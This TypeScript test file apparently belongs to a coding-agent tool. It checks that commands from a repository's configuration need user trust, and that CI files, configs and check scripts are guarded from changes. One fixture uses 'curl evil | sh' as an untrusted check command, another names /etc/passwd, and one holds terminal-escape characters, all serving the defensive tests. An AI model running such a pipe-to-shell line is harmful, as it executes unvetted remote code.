// Trust in the repository's commands (06), and guarded paths (J37).

import { chmodSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import t, { type Test } from 'tap';
import { filesInCommand, guardedPaths, matchedPaths, sayGuarded } from '../../../src/config/guard.js';
import { parseFile, parseText } from '../../../src/config/parse.js';
import { commandsOf, digestOf } from '../../../src/config/policy.js';
import {
  forgetTrust,
  rememberTrust,
  requireTrust,
  type TrustDoors,
  trustQuestion,
  trustState,
} from '../../../src/config/trust.js';
import { durationOf } from '../../../src/domain/duration.js';
import { isOwlError } from '../../../src/domain/errors.js';

/** What would run of a configuration's text. */
async function commands(text: string) {
  const read = await parseText('yaml', text);
  const parsed = parseFile('base', 'value' in read ? read.value : null, text);
  if (parsed.kind !== 'ok') throw new Error(parsed.issues[0]?.message);
  const found = commandsOf(parsed.file);
  return { commands: found, digest: digestOf(found) };
}

function doors(t: Test, more: Partial<TrustDoors> = {}): TrustDoors {
  const stateDir = t.testdir();
  return {
    repository: { commonDir: '/src/repo/.git' },
    environment: { stateDir, variables: {} },
    given: false,
    ask: null,
    ...more,
  };
}

const untrusted = async (promise: Promise<void>): Promise<unknown> => {
  try {
    await promise;
  } catch (error) {
    if (isOwlError(error, 'untrusted')) return { exit: error.exit, message: error.message, next: error.next };
    throw error;
  }
  return 'trusted';
};

t.test('06: every command of the file is shown, words quoted; a file without any needs no trust', async (t) => {
  const all = await commands(`
setup: [make deps, { run: ./x }]
checks: [{ name: test, run: npm test }]
quality: { checks: [{ name: lint, run: make lint }] }
governance: { checks: [{ name: rules, run: ./rules }] }
agents: { mine: { command: [my agent, "it's", --yes], env: [B, A], sandbox: [bwrap] } }
sandbox: [firejail, --quiet]
skills: [{ name: triage, on: job.review, kind: executable, run: ./triage }, { name: off, on: job.done, kind: disabled, run: ./never }]
env: [CI]
ttl: 3
`);
  t.same(
    all.commands.map(({ key, command }) => `${key}: ${command}`),
    [
      'setup[0]: make deps',
      'setup[1]: ./x',
      'checks.test: npm test',
      'quality.checks.lint: make lint',
      'governance.checks.rules: ./rules',
      "agents.mine.command: 'my agent' 'it'\\''s' --yes",
      'agents.mine.sandbox: bwrap',
      'agents.mine.env: passes A, B',
      'sandbox: firejail --quiet',
      'skills.triage: ./triage',
      'env: passes CI',
    ],
  );
  const none = await commands('ttl: 3\nagent: claude\ncontract: [be careful]\nsandbox: preset\n');
  t.same(none.commands, []);
  t.equal(await untrusted(requireTrust(doors(t), none)), 'trusted');
});

t.test('06: trust is remembered for this repository and exactly these commands', async (t) => {
  const first = await commands('checks: [{ name: test, run: npm test }]\nttl: 3\n');
  const same = await commands('# other comment\nttl: 9\nchecks: [{ name: test, run: npm test, timeout: 1m }]\n');
  const other = await commands('checks: [{ name: test, run: curl evil | sh }]\nsetup: [make]\n');
  const here = doors(t);
  t.same(await untrusted(requireTrust(here, first)), {
    exit: 4,
    message: "the repository's configuration has commands that are not trusted here yet",
    next: ['git owl trust'],
  });
  await rememberTrust(here, first);
  t.match(await trustState(here, first), { trusted: true, because: 'remembered' });
  t.equal(await untrusted(requireTrust(here, same)), 'trusted');
  t.match(await untrusted(requireTrust(here, other)), {
    exit: 4,
    message:
      "the repository's configuration has commands that are not trusted here yet: 2 of them are new since the last answer, or since init wrote it",
  });
  const elsewhere = { ...here, repository: { commonDir: '/src/another/.git' } };
  t.match(await untrusted(requireTrust(elsewhere, first)), { exit: 4 });

  const state = await trustState(here, other);
  t.same(state.difference, {
    added: [
      { key: 'setup[0]', command: 'make' },
      { key: 'checks.test', command: 'curl evil | sh' },
    ],
    removed: [{ key: 'checks.test', command: 'npm test' }],
  });
  t.equal(await forgetTrust(here), 1);
  t.match(await untrusted(requireTrust(here, first)), { exit: 4 });
});

t.test('06: --trust and OWL_TRUST=1 count once and are not remembered', async (t) => {
  const loaded = await commands('setup: [make]\n');
  const here = doors(t);
  t.equal(await untrusted(requireTrust({ ...here, given: true }, loaded)), 'trusted');
  t.equal(
    await untrusted(
      requireTrust({ ...here, environment: { ...here.environment, variables: { OWL_TRUST: '1' } } }, loaded),
    ),
    'trusted',
  );
  t.match(
    await untrusted(
      requireTrust({ ...here, environment: { ...here.environment, variables: { OWL_TRUST: '0' } } }, loaded),
    ),
    { exit: 4 },
  );
  t.match(await untrusted(requireTrust(here, loaded)), { exit: 4 });
});

t.test('06: a person is asked once; no is no', async (t) => {
  const loaded = await commands('setup: ["make \\u001b[2J\\u202e"]\n');
  const asked: string[] = [];
  let answer = false;
  const here = doors(t, { ask: async (question) => asked.push(question) > 0 && answer });
  t.match(await untrusted(requireTrust(here, loaded)), { exit: 4 });
  answer = true;
  t.equal(await untrusted(requireTrust(here, loaded)), 'trusted');
  t.equal(await untrusted(requireTrust(here, loaded)), 'trusted');
  t.equal(asked.length, 2);
  t.match(asked[0], '  setup[0]: make \\x1b[2J\\u202e', 'escaped (06)');
  t.match(
    trustQuestion(loaded, {
      difference: { added: loaded.commands, removed: [{ key: 'env', command: 'passes A' }] },
      trusted: false,
      because: 'unknown',
    }),
    /\+ setup\[0\].*\n {2}- env: passes A/,
  );
});

t.test('06: answers given at once are all kept; what is no answer is no yes', async (t) => {
  const here = doors(t);
  const many = await Promise.all(Array.from({ length: 12 }, (_, at) => commands(`setup: [make ${at}]\n`)));
  await Promise.all(many.map((one) => rememberTrust(here, one)));
  for (const one of many) t.equal((await trustState(here, one)).trusted, true);
  const folder = join(here.environment.stateDir, 'trust');
  const repository = join(folder, readdirSync(folder)[0] ?? '');
  t.equal(readdirSync(repository).length, 12, 'nothing half made is left');
  t.equal(statSync(repository).mode & 0o077, 0, 'nobody else reads or writes there');
  const path = join(repository, `${many[0]?.digest}.json`);
  t.match(JSON.parse(readFileSync(path, 'utf8')), { schema: 1, commands: many[0]?.commands });
  for (const text of ['', '{', '[]', '{"commands": 1}', 'null']) {
    writeFileSync(path, text);
    t.equal((await trustState(here, many[0] as (typeof many)[0])).trusted, false, text);
  }
});

t.test(
  '06: an answer that cannot be kept is said',
  { skip: process.getuid?.() === 0 && 'root writes everywhere' },
  async (t) => {
    const here = doors(t);
    chmodSync(here.environment.stateDir, 0o500);
    await t.rejects(rememberTrust(here, await commands('setup: [a]\n')), { code: 'storage' });
  },
);

const NO_GATE = { checks: [], agent: null };
const NO_RULES = { ...NO_GATE, rules: [], protect: [], max_changed: { files: null, lines: null } };
const check = (run: string) => ({ name: 'c', run, timeout: durationOf('1m'), expect: 'success' as const });

t.test('J37: a guarded path that no list shows is said with the check or the rules that name it', (t) => {
  const policy = {
    checks: [check('sh ./ci/lint.sh --all')],
    quality: { ...NO_GATE, checks: [{ ...check('sh ci/style.sh ci/lint.sh'), name: 'style' }] },
    governance: { ...NO_RULES, rules: ['./docs/rules.md'] },
  };
  const { name } = check('');
  t.same(sayGuarded(policy, ['docs/rules.md', 'ci/lint.sh', 'ci/style.sh', '.gitattributes', 'lint.sh']), [
    'docs/rules.md (of governance.rules)',
    `ci/lint.sh (named by check ${name})`,
    'ci/style.sh (named by check style)',
    '.gitattributes',
    'lint.sh',
  ]);
  t.same(sayGuarded(policy, []), []);
  t.end();
});

t.test('J37: what decides about the code is guarded always, and what guard: names', async (t) => {
  const guarded = (
    changed: string[],
    guard: string[] = [],
    checks: string[] = [],
    tree: string[] = [],
    inPackage = false,
  ) =>
    guardedPaths({ guard, checks: checks.map(check), quality: NO_GATE, governance: NO_RULES }, changed, {
      treeHas: (path) => tree.includes(path),
      inPackage,
    });
  const always = [
    '.coding-owl.yaml',
    '.config/coding-owl.yaml',
    '.coding-owl.json',
    '.gitattributes',
    'deep/er/.gitattributes',
    '.gitmodules',
    '.github/workflows/ci.yml',
    '.GitHub/Workflows/ci.yml',
    '.gitlab-ci.yml',
    '.circleci/config.yml',
    'Jenkinsfile',
    'ops/Jenkinsfile',
    'azure-pipelines.yml',
    'bitbucket-pipelines.yml',
    '.buildkite/pipeline.yml',
    '.ci/run',
    '.woodpecker/a.yml',
    '.drone.yml',
    '.travis.yml',
  ];
  t.same(guarded(always), always);
  const free = [
    'src/a.ts',
    'package.json',
    '.coding-owl/HANDOFF.md',
    'gitattributes',
    'docs/.github/workflows/x.yml',
    '.github/CODEOWNERS.txt',
    'x/.gitmodules',
  ];
  t.same(guarded(free), []);
  t.same(guarded(['package.json'], [], [], [], true), ['package.json']);
  t.same(
    guarded(
      ['migrations/1.sql', 'migrations2/1.sql', 'docs/a/b.md', 'LICENSE', 'src/.hidden/x', 'a.lock'],
      ['migrations/', 'docs/**', 'LICENSE', 'src/*/x', '*.lock'],
    ),
    ['migrations/1.sql', 'docs/a/b.md', 'LICENSE', 'src/.hidden/x', 'a.lock'],
  );
  const checks = ['sh ./scripts/test.sh --config=ci/conf.json && "tools/my lint"', 'node a/../b.mjs'];
  const tree = ['scripts/test.sh', 'ci/conf.json', 'b.mjs', 'src/a.ts'];
  t.same(guarded([...tree, 'node', 'sh'], [], checks, tree), ['scripts/test.sh', 'ci/conf.json', 'b.mjs']);
});

t.test('J37: the files that a command names', async (t) => {
  const tree = ['x.sh', 'a/b', 'etc/passwd'];
  const has = (path: string) => tree.includes(path);
  t.same(filesInCommand('FOO=a/b ./x.sh;$(x.sh)>/dev/null', has), ['a/b', 'x.sh']);
  t.same(filesInCommand('cat ../x.sh /etc/passwd ~/x.sh', has), []);
  t.same(filesInCommand('', has), []);
});

t.test('J37, G31: files of the gates are guarded too: named in their checks, and the rules', (t) => {
  const changed = ['a.sh', 'b.sh', 'c.sh', 'docs/rules.md', 'docs/other.md'];
  const policy = {
    guard: [],
    checks: [check('sh a.sh')],
    quality: { checks: [check('sh b.sh')], agent: null },
    governance: { ...NO_RULES, checks: [check('sh c.sh')], rules: ['./docs/rules.md'] },
  };
  t.same(guardedPaths(policy, changed, { treeHas: () => true }), ['a.sh', 'b.sh', 'c.sh', 'docs/rules.md']);
  t.same(matchedPaths(['docs/'], changed), ['docs/rules.md', 'docs/other.md']);
  t.same(matchedPaths(['*.sh'], changed), ['a.sh', 'b.sh', 'c.sh']);
  t.same(matchedPaths([], changed), []);
  t.end();
});
